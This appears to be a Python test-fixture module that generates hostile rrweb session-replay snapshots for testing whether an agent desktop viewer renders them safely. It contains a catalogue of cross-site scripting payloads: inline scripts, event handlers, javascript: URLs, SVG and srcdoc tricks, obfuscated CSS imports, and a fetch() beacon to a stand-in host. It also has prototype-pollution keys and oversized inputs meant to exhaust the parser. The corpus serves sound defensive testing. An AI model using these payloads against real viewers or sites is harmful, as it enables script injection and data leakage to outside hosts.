"""Snapshots that no page of ours makes, from somebody who wants to get into the agent's desktop, or to be told of it.

Each is the events of one frame, or text in their place, as they could come over the wire. `{net}` is a server that
counts who connects; `PWNED` is what every script tries to do.
"""

from __future__ import annotations

import json
from typing import Any

Json = dict[str, Any]

# Of these nothing can be shown.
NONSENSE = {"very deep", "very many", "a number", "nothing", "no JSON", "wrong types"}

PWNED = "top.postMessage('pwned','*');parent.postMessage('pwned','*');document.title='pwned';fetch('{net}/s')"


class Tree:
    """Nodes as rrweb writes them, with numbers that go up."""

    def __init__(self) -> None:
        self.id = 0

    def next(self) -> int:
        self.id += 1
        return self.id

    def el(self, tag: str, attributes: Json | None = None, *children: Json, **more: Any) -> Json:
        return {
            "type": 2,
            "tagName": tag,
            "attributes": attributes or {},
            "childNodes": list(children),
            "id": self.next(),
            **more,
        }

    def text(self, content: str) -> Json:
        return {"type": 3, "textContent": content, "id": self.next()}

    def events(self, *body: Json, head: tuple[Json, ...] = ()) -> list[Json]:
        page = {
            "type": 0,
            "id": self.next(),
            "childNodes": [self.el("html", {}, self.el("head", {}, *head), self.el("body", {}, *body))],
        }
        return [
            {"type": 4, "data": {"href": "https://shop.example/", "width": 800, "height": 600}, "timestamp": 1},
            {"type": 2, "data": {"node": page, "initialOffset": {"left": 0, "top": 0}}, "timestamp": 1},
        ]


def change(**data: Any) -> Json:
    empty: Json = {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": []}
    return {"type": 3, "data": {**empty, **data}, "timestamp": 2}


def good(words: str) -> list[Json]:
    tree = Tree()
    return tree.events(tree.el("h1", {}, tree.text(words)), tree.el("input", {"value": "Berlin"}))


def hostile(net: str) -> dict[str, str]:
    """The frames' bodies by what they try."""
    run = PWNED.replace("{net}", net)
    made: dict[str, str] = {}

    def add(name: str, *body: Json, head: tuple[Json, ...] = (), tree: Tree, after: tuple[Json, ...] = ()) -> None:
        made[name] = json.dumps([*tree.events(*body, head=head), *after])

    t = Tree()
    add("script", t.el("script", {}, t.text(run)), t.el("script", {"src": f"{net}/a.js"}), tree=t)
    t = Tree()
    add(
        "module and speculation rules",
        t.el("script", {"type": "module"}, t.text(run)),
        t.el("script", {"type": "speculationrules"}, t.text('{"prefetch":[{"urls":["' + net + '/p"]}]}')),
        tree=t,
    )
    t = Tree()
    add(
        "script in a drawing",
        t.el("svg", {}, t.el("script", {}, t.text(run), isSVG=True), isSVG=True),
        t.el("svg:script", {}, t.text(run), isSVG=True),
        tree=t,
    )
    t = Tree()
    handlers = dict.fromkeys(("onload", "onerror", "onfocus", "onclick", "ontoggle", "onbegin", "oncopy"), run)
    add(
        "handlers",
        t.el("img", {**handlers, "src": f"{net}/x.png"}),
        t.el("body", handlers),
        t.el("details", {**handlers, "open": ""}),
        t.el("svg", handlers, isSVG=True),
        t.el("input", {**handlers, "autofocus": ""}),
        tree=t,
    )
    t = Tree()
    add(
        "javascript addresses",
        t.el("a", {"href": f"javascript:{run}"}, t.text("x")),
        t.el("iframe", {"src": f"javascript:{run}"}),
        t.el("form", {"action": f"javascript:{run}"}),
        t.el("object", {"data": f"javascript:{run}"}),
        t.el("embed", {"src": f"javascript:{run}"}),
        tree=t,
    )
    t = Tree()
    add(
        "meta refresh and policy",
        head=(
            t.el("meta", {"http-equiv": "refresh", "content": f"0;url={net}/r"}),
            t.el("meta", {"http-equiv": "Content-Security-Policy", "content": "default-src *"}),
            t.el("base", {"href": net}),
        ),
        tree=t,
    )
    t = Tree()
    add(
        "links that fetch",
        head=tuple(
            t.el("link", {"rel": rel, "href": f"{net}/{rel}", "as": "image"})
            for rel in (
                "stylesheet",
                "prefetch",
                "preload",
                "modulepreload",
                "preconnect",
                "dns-prefetch",
                "prerender",
                "icon",
                "manifest",
            )
        ),
        tree=t,
    )
    t = Tree()
    add(
        "drawings",
        t.el(
            "svg",
            {},
            t.el("image", {"href": f"{net}/i", "xlink:href": f"{net}/i"}, isSVG=True),
            t.el("use", {"href": f"{net}/u.svg#a"}, isSVG=True),
            t.el("feImage", {"href": f"{net}/f"}, isSVG=True),
            t.el(
                "a",
                {"xlink:href": f"javascript:{run}"},
                t.el("animate", {"attributeName": "href", "to": f"javascript:{run}"}, isSVG=True),
                isSVG=True,
            ),
            t.el("foreignObject", {}, t.el("iframe", {"srcdoc": f"<script>{run}</script>"}), isSVG=True),
            isSVG=True,
        ),
        tree=t,
    )
    t = Tree()
    css = f"""@import "{net}/i.css";@import url({net}/j.css);@\\69mport "{net}/k.css";
      @font-face{{font-family:f;src:url({net}/f)}}
      body{{background:url({net}/1);font-family:f;cursor:url({net}/2),auto;list-style:u\\72l({net}/3)}}
      i{{content:image-set("{net}/4" 1x);-webkit-mask:url({net}/5);border-image:url( '{net}/6' )}}
      /**/h1{{background:ur/**/l({net}/7)}}"""
    add(
        "style sheets",
        t.el("style", {"_cssText": css}),
        t.el("style", {}, t.text(css)),
        t.el("p", {"style": f"background:url({net}/8)"}, t.text("x")),
        t.el("link", {"_cssText": css}),
        tree=t,
        after=(
            {
                "type": 3,
                "data": {"source": 8, "id": 1, "adds": [{"rule": css, "index": 0}], "replace": css},
                "timestamp": 2,
            },
            {
                "type": 3,
                "data": {"source": 15, "id": 1, "styleIds": [1], "styles": [{"styleId": 1, "rules": [{"rule": css}]}]},
                "timestamp": 2,
            },
            {
                "type": 3,
                "data": {
                    "source": 13,
                    "id": 1,
                    "index": [0],
                    "set": {"property": "background", "value": f"url({net}/9)"},
                },
                "timestamp": 2,
            },
        ),
    )
    t = Tree()
    add(
        "frames and plugins",
        t.el("iframe", {"srcdoc": f"<script>{run}</script>"}),
        t.el("iframe", {"src": f"{net}/f"}),
        t.el("iframe", {"rr_src": f"{net}/f", "sandbox": "allow-scripts allow-top-navigation"}),
        t.el("frame", {"src": f"{net}/f"}),
        t.el("object", {"data": f"{net}/o"}),
        t.el("embed", {"src": f"{net}/e"}),
        t.el("portal", {"src": f"{net}/p"}),
        t.el("fencedframe", {"src": f"{net}/ff"}),
        tree=t,
    )
    t = Tree()
    add(
        "pictures and films",
        t.el("img", {"src": f"{net}/i", "srcset": f"{net}/s 1x", "lowsrc": f"{net}/l"}),
        t.el("picture", {}, t.el("source", {"srcset": f"{net}/s"})),
        t.el("video", {"src": f"{net}/v", "poster": f"{net}/p", "autoplay": ""}),
        t.el("audio", {"src": f"{net}/a"}),
        t.el("input", {"type": "image", "src": f"{net}/i"}),
        t.el("body", {"background": f"{net}/b"}),
        t.el("table", {"background": f"{net}/t"}),
        t.el("img", {"rr_dataURL": f"{net}/d"}),
        t.el("canvas", {"rr_dataURL": f"{net}/c"}),
        tree=t,
    )
    t = Tree()
    add(
        "forms",
        t.el(
            "form",
            {"action": f"{net}/f", "method": "post"},
            t.el("input", {"type": "submit", "formaction": f"{net}/g"}),
        ),
        t.el("button", {"formaction": f"javascript:{run}", "popovertarget": "x"}),
        tree=t,
    )
    t = Tree()
    add(
        "canvas and console",
        t.el("canvas", {}),
        tree=t,
        after=(
            {
                "type": 3,
                "data": {"source": 9, "id": 2, "type": 0, "commands": [{"property": "constructor", "args": [run]}]},
                "timestamp": 2,
            },
            {
                "type": 3,
                "data": {"source": 10, "family": "f", "fontSource": f"url({net}/f)", "buffer": False},
                "timestamp": 2,
            },
            {"type": 3, "data": {"source": 16, "define": {"name": "x-pwned"}}, "timestamp": 2},
            {
                "type": 6,
                "data": {"plugin": "rrweb/console@1", "payload": {"level": "log", "payload": [run]}},
                "timestamp": 2,
            },
            {"type": 5, "data": {"tag": "x", "payload": run}, "timestamp": 2},
        ),
    )
    t = Tree()
    add(
        "attributes that change",
        t.el("a", {}, t.text("x")),
        t.el("iframe", {}),
        tree=t,
        after=(
            change(
                attributes=[
                    {
                        "id": 2,
                        "attributes": {
                            "href": f"javascript:{run}",
                            "onclick": run,
                            "style": {"background": f"url({net}/c)"},
                        },
                    },
                    {"id": 3, "attributes": {"src": f"{net}/f", "srcdoc": f"<script>{run}</script>", "onload": run}},
                ]
            ),
            change(
                adds=[
                    {
                        "parentId": 2,
                        "nextId": None,
                        "node": {"type": 2, "tagName": "script", "attributes": {}, "childNodes": [], "id": 90},
                    },
                    {"parentId": 90, "nextId": None, "node": {"type": 3, "textContent": run, "id": 91}},
                ]
            ),
        ),
    )
    t = Tree()
    add(
        "names of the prototype",
        t.el("p", {"__proto__": {"polluted": 1}, "constructor": run}, t.text("x")),
        t.el("__proto__", {}),
        tree=t,
    )
    t = Tree()
    inner = t.el("div")
    add(
        "a node within itself",
        inner,
        tree=t,
        after=(
            change(adds=[{"parentId": inner["id"], "nextId": None, "node": {**inner, "childNodes": []}}]),
            change(
                adds=[
                    {
                        "parentId": inner["id"],
                        "nextId": None,
                        "node": {"type": 2, "tagName": "html", "attributes": {}, "childNodes": [], "id": 3},
                    }
                ]
            ),
        ),
    )
    t = Tree()
    add("the same number many times", *[t.el("p", {}, t.text("x")) | {"id": 7} for _ in range(20)], tree=t)
    deep = "".join(f'{{"type":2,"tagName":"div","attributes":{{}},"id":{n + 10},"childNodes":[' for n in range(20_000))
    page = f'{{"type":0,"id":1,"childNodes":[{deep}{"]}" * 20_000}]}}'
    made["very deep"] = f'[{{"type":2,"timestamp":1,"data":{{"node":{page},"initialOffset":{{}}}}}}]'
    t = Tree()
    add("very many", *[t.el("i", {}, t.text("x")) for _ in range(110_000)], tree=t)
    t = Tree()
    add(
        "style sheets that take long to read",
        t.el("style", {"_cssText": 'url("' * 200_000}),
        t.el("style", {"_cssText": "/*" * 500_000}),
        t.el("style", {"_cssText": "@import" * 100_000}),
        tree=t,
    )
    made["no document"] = json.dumps(
        [{"type": 2, "data": {"node": {"type": 3, "id": 1, "textContent": "x"}}, "timestamp": 1}]
    )
    made["a number"] = "7"
    made["nothing"] = "[]"
    made["no JSON"] = '[{"type":2,'
    made["wrong types"] = json.dumps(
        [{"type": 2, "data": {"node": {"type": 0, "id": "x", "childNodes": {"0": 1}}}}, None, 7, {"type": 3}]
    )
    return made
